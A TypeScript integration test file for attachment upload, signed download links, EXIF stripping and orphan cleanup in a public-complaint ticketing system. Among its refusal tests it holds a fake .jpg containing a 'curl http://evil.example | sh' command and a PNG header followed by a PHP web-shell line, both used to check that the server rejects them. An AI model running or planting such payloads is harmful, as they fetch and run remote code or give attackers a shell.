import { EntityManager } from '@mikro-orm/postgresql';
import { ATTACHMENT_STORE, type AttachmentStore } from '../../../src/core/attachment/application/attachment-store';
import { sanitizeMedia } from '../../../src/core/attachment/media/media.sanitizer';
import { OrphanCleanup } from '../../../src/core/attachment/jobs/orphan-cleanup';
import { tinyAmr, tinyJpeg, tinyOpus, tinyPng } from '../../support/media-fixtures';
import { authHeaderFor } from '../../support/test-auth';
import { startTestApp, TestActor, TestApp } from '../../support/test-app';
import { BOOT_TIMEOUT_MS } from '../../support/timeouts';
import { ACTORS, CODES, expectResult, HOUR, MINUTE, ref, TicketApi, TicketView } from '../tickets/ticket-api';
import { AttachmentApi, UploadedView } from './attachment-api';

// A pothole in Bangli town, followed by the roads department's field unit:
// the unit photographs the scene (the phone writes GPS into the photo), uploads
// it, and proves its arrival with it. Around that story: who may upload and
// download, what is refused, and what happens to uploads nobody references.

const ROADS_UNIT: TestActor = { userId: 'unit-pupr-1', role: 'FIELD_UNIT', opdCode: CODES.roadsOpd };
const AUDITOR: TestActor = { userId: 'aud-sari', role: 'AUDITOR' };
const SCENE = { latitude: -8.4546321, longitude: 115.3547123 };
const MAX_KB = 64;

const ADD_ATTACHMENT = `mutation Add($input: AddAttachmentInput!) {
  result: addAttachment(input: $input) {
    __typename
    ... on TicketChanged { ticket { id version state events { seq type payload } } }
    ... on InvalidTicketInput { problems }
    ... on VersionConflict { currentVersion }
    ... on TicketNotFound { ref }
  }
}`;

describe('attachments: upload, attach, download', () => {
  let t: TestApp;
  let api: TicketApi;
  let files: AttachmentApi;
  let ticket: TicketView;
  let scenePhoto: UploadedView;
  const photo = tinyJpeg({ exif: { gps: SCENE, orientation: 1, make: 'SecretPhoneMaker' }, comment: 'Made Wirawan' });

  beforeAll(async () => {
    t = await startTestApp({ ATTACHMENT_MAX_KB: String(MAX_KB) });
    api = new TicketApi(t);
    files = new AttachmentApi(t);
    const created = await api.createTicket({
      kind: 'COMPLAINT', channel: 'PHONE', description: 'Jalan berlubang besar di depan pasar Bangli', descriptionLanguage: 'id',
      categoryCode: CODES.roadCategory, location: { district: 'BANGLI' },
    });
    api.advance(MINUTE);
    const triaged = await api.change('triageTicket', { ...ref(created), kind: 'COMPLAINT', categoryCode: CODES.roadCategory, opdCode: CODES.roadsOpd });
    api.advance(MINUTE);
    const dispatched = await api.change('dispatchTicket', ref(triaged));
    api.advance(10 * MINUTE);
    ticket = await api.change('acknowledgeTicket', ref(dispatched), ACTORS.roadsOfficer);
  }, BOOT_TIMEOUT_MS);
  afterAll(async () => {
    await t.close();
  }, BOOT_TIMEOUT_MS);

  async function addAttachment(input: Record<string, unknown>, actor: TestActor) {
    const res = await t.gql<{ result: { __typename: string; problems?: string[]; currentVersion?: number; ticket?: { version: number; events: Array<{ seq: number; type: string; payload: Record<string, unknown> }> } } }>(ADD_ATTACHMENT, { input }, actor);
    expect(res.body.errors).toBeUndefined();
    return res.body.data!.result;
  }

  it('stores a photo: its type from the bytes, its EXIF GPS position kept aside', async () => {
    api.advance(20 * MINUTE);
    scenePhoto = await files.uploaded(photo, ROADS_UNIT, { filename: 'IMG_0001.jpg', contentType: 'image/jpeg' });
    expect(scenePhoto).toMatchObject({ kind: 'PHOTO', mediaType: 'image/jpeg', size: sanitizeMedia(photo).bytes.length, createdAt: api.now() });
    expect(scenePhoto.position?.latitude).toBeCloseTo(SCENE.latitude, 6);
    expect(scenePhoto.position?.longitude).toBeCloseTo(SCENE.longitude, 6);
    expect(scenePhoto.url).toMatch(new RegExp(`^/attachments/${scenePhoto.id}\\?exp=\\d+&sig=[A-Za-z0-9_-]{43}$`));
  });

  it('proves the arrival with it: the event names it, the ticket lists it with its position', async () => {
    api.advance(MINUTE);
    const arrived = await api.change('arriveOnSite', { ...ref(ticket), attachmentIds: [scenePhoto.id] } as never, ROADS_UNIT);
    expect(arrived.state).toBe('ON_SITE');
    expect(arrived.events.at(-1)).toMatchObject({ type: 'ARRIVE', actorId: ROADS_UNIT.userId, payload: { attachmentIds: [scenePhoto.id] } });
    ticket = arrived;

    const listed = await files.files(ticket.id, ACTORS.roadsOfficer);
    expect(listed).toEqual([
      expect.objectContaining({ id: scenePhoto.id, kind: 'PHOTO', mediaType: 'image/jpeg', size: scenePhoto.size, attachedAt: api.now(), eventSeq: arrived.version }),
    ]);
    expect(listed![0].latitude).toBeCloseTo(SCENE.latitude, 6);
  });

  it('downloads through the signed link: the bytes stripped of EXIF and comments, the image data intact', async () => {
    const [file] = (await files.files(ticket.id, ACTORS.callTaker))!;
    const res = await files.download(file.url);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const body = res.body as Buffer;
    expect(body.equals(sanitizeMedia(photo).bytes)).toBe(true);
    const text = body.toString('latin1');
    for (const gone of ['SecretPhoneMaker', 'Made Wirawan', 'Exif']) expect(text).not.toContain(gone);
  });

  it('refuses a tampered link (403) and an expired one (410)', async () => {
    const [file] = (await files.files(ticket.id, ACTORS.roadsOfficer))!;
    const tampered = file.url.replace(/sig=(.)/, (_m, c: string) => `sig=${c === 'A' ? 'B' : 'A'}`);
    expect(await files.download(tampered)).toMatchObject({ status: 403 });
    expect(JSON.parse((await files.download(tampered)).body.toString())).toEqual({ error: { code: 'LINK_INVALID', message: expect.any(String) } });
    const longer = file.url.replace(/exp=(\d+)/, (_m, exp: string) => `exp=${Number(exp) + 3600}`);
    expect((await files.download(longer)).status).toBe(403);
    expect((await files.download(file.url.replace(scenePhoto.id, '00000000-0000-4000-8000-000000000000'))).status).toBe(403);

    t.clock.advance(5 * MINUTE + 1000);
    const expired = await files.download(file.url);
    expect(expired.status).toBe(410);
    expect(JSON.parse(expired.body.toString()).error.code).toBe('LINK_EXPIRED');
    // Reading the ticket again gives a fresh link.
    const [fresh] = (await files.files(ticket.id, ACTORS.roadsOfficer))!;
    expect((await files.download(fresh.url)).status).toBe(200);
  });

  it('gives another OPD no link: the ticket does not exist for it', async () => {
    expect(await files.files(ticket.id, ACTORS.damkarOfficer)).toBeNull();
  });

  it('refuses someone else\'s upload, an unknown id and an already attached one, and changes nothing', async () => {
    const callTakers = await files.uploaded(tinyOpus(), ACTORS.callTaker, { filename: 'voice.ogg' });
    const before = (await api.ticket(ticket.id))!;
    const unknown = '6f1d2c3b-0000-4000-8000-000000000001';
    const result = await addAttachment({ ...ref(before), attachmentIds: [callTakers.id, unknown, scenePhoto.id] }, ROADS_UNIT);
    expect(result).toEqual({
      __typename: 'InvalidTicketInput',
      problems: [
        `attachmentIds: ${callTakers.id} is no upload of yours (unknown, someone else's, or expired and deleted)`,
        `attachmentIds: ${unknown} is no upload of yours (unknown, someone else's, or expired and deleted)`,
        `attachmentIds: ${scenePhoto.id} is already attached to a ticket`,
      ],
    });
    expect((await api.ticket(ticket.id))!.version).toBe(before.version);
    // The call taker's upload stayed unbound: its owner can still attach it.
    const own = await addAttachment({ ...ref(before), attachmentIds: [callTakers.id], caption: 'Rekaman telepon pelapor' }, ACTORS.callTaker);
    expect(own.__typename).toBe('TicketChanged');
    expect(own.ticket!.events.at(-1)).toMatchObject({ type: 'ADD_ATTACHMENT', payload: { attachmentIds: [callTakers.id], caption: 'Rekaman telepon pelapor' } });
    ticket = (await api.ticket(ticket.id))!;
  });

  it('keeps an upload unbound when the command fails (stale version), so it can be attached after a reload', async () => {
    const proof = await files.uploaded(tinyPng(), ROADS_UNIT, { filename: 'after.png' });
    const stale = await api.command('resolveTicket', { ticketId: ticket.id, expectedVersion: ticket.version - 1, note: 'Lubang sudah ditambal', attachmentIds: [proof.id] } as never, ROADS_UNIT);
    expect(stale.__typename).toBe('VersionConflict');
    expect((await files.files(ticket.id, ROADS_UNIT))!.map((f) => f.id)).not.toContain(proof.id);
    const resolved = await api.change('resolveTicket', { ...ref(ticket), note: 'Lubang sudah ditambal', attachmentIds: [proof.id] } as never, ROADS_UNIT);
    expect(resolved.state).toBe('RESOLVED');
    expect((await files.files(ticket.id, ROADS_UNIT))!.map((f) => f.id)).toEqual([scenePhoto.id, expect.any(String), proof.id]);
    ticket = resolved;
  });

  it('binds uploads named in createTicket to the new ticket', async () => {
    const voice = await files.uploaded(tinyOpus(), ACTORS.callTaker);
    const created = await api.create({ kind: 'COMPLAINT', channel: 'SOCIAL_MEDIA', channelPlatform: 'WHATSAPP', channelAccount: '+62 366 91000', description: 'Pesan suara: lampu jalan mati', descriptionLanguage: 'id', attachmentIds: [voice.id] } as never);
    const made = expectResult(created, 'TicketCreated').ticket;
    expect(made.events[0].payload).toMatchObject({ attachmentIds: [voice.id] });
    expect(await files.files(made.id, ACTORS.callTaker)).toEqual([expect.objectContaining({ id: voice.id, kind: 'VOICE', mediaType: 'audio/ogg', eventSeq: 1 })]);
  });

  describe('what POST /attachments refuses', () => {
    it('asks for credentials (401) and refuses roles that may not add notes (403)', async () => {
      const anonymous = await files.upload(photo, null);
      expect(anonymous.status).toBe(401);
      expect(anonymous.body.error).toMatchObject({ code: 'UNAUTHENTICATED', reason: 'MISSING' });
      const auditor = await files.upload(photo, AUDITOR);
      expect(auditor.status).toBe(403);
      expect(auditor.body.error.code).toBe('FORBIDDEN');
      const bad = await t.http().post('/attachments').set('authorization', 'Bearer not-a-token').attach('file', photo, 'x.jpg');
      expect(bad.status).toBe(401);
    });

    it('refuses a script named .jpg (415) and a PNG header on garbage (422), whatever the client claims', async () => {
      const script = await files.upload(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), ROADS_UNIT, { filename: 'photo.jpg', contentType: 'image/jpeg' });
      expect(script.status).toBe(415);
      expect(script.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      const forged = Buffer.concat([tinyPng().subarray(0, 16), Buffer.from('<?php system($_GET["c"]); ?>'.repeat(4))]);
      const garbage = await files.upload(forged, ROADS_UNIT, { filename: 'photo.png', contentType: 'image/png' });
      expect(garbage.status).toBe(422);
      expect(garbage.body.error.code).toBe('MALFORMED_MEDIA');
    });

    it('refuses a file over ATTACHMENT_MAX_KB with 413', async () => {
      const big = Buffer.concat([tinyJpeg(), Buffer.alloc((MAX_KB + 1) * 1024)]);
      const res = await files.upload(big, ROADS_UNIT, { filename: 'big.jpg' });
      expect(res.status).toBe(413);
      expect(res.body.error).toMatchObject({ code: 'ATTACHMENT_TOO_LARGE', maxBytes: MAX_KB * 1024 });
    });

    it('refuses a request that is not multipart (400) and a form without a file (400)', async () => {
      const auth = await authHeaderFor(t.app, t.clock, ROADS_UNIT);
      const json = await t.http().post('/attachments').set(...auth).set('content-type', 'application/json').send({ file: 'x' });
      expect(json.status).toBe(400);
      expect(json.body.error.code).toBe('BAD_UPLOAD');
      const noFile = await t.http().post('/attachments').set(...auth).field('caption', 'no file');
      expect(noFile.status).toBe(400);
    });
  });

  describe('orphans', () => {
    it('deletes uploads nobody attached after 24 hours, rows and files, and keeps attached ones and shared bytes', async () => {
      const cleanup = t.app.get(OrphanCleanup);
      // Bytes no other upload has (a stripped PNG would equal the attached proof photo's).
      const orphan = await files.uploaded(tinyAmr(), ROADS_UNIT);
      // The same bytes as the attached scene photo: one stored file, two rows.
      const duplicate = await files.uploaded(photo, ROADS_UNIT);
      expect(duplicate.sha256).toBe(scenePhoto.sha256);

      t.clock.advance(23 * HOUR);
      expect(await cleanup.sweep()).toEqual({ rows: 0, blobs: 0 });
      t.clock.advance(2 * HOUR);
      const swept = await cleanup.sweep();
      // The two orphans of this test, and the earlier tests' refused and never attached uploads.
      expect(swept.rows).toBeGreaterThanOrEqual(2);

      const sql = t.app.get(EntityManager).getConnection();
      expect(await sql.execute('select id from attachment where ticket_id is null')).toEqual([]);
      const kept = await sql.execute<Array<{ id: string }>>('select id from attachment where id in (?, ?, ?)', [scenePhoto.id, orphan.id, duplicate.id]);
      expect(kept.map((r) => r.id)).toEqual([scenePhoto.id]);
      const store = t.app.get<AttachmentStore>(ATTACHMENT_STORE);
      expect(await store.exists(orphan.sha256)).toBe(false);
      expect(await store.exists(scenePhoto.sha256)).toBe(true);
      // The attached photo, whose bytes the deleted duplicate shared, still downloads.
      const [file] = (await files.files(ticket.id, ROADS_UNIT))!;
      const res = await files.download(file.url);
      expect(res.status).toBe(200);
      expect((res.body as Buffer).equals(sanitizeMedia(photo).bytes)).toBe(true);
    });
  });
});
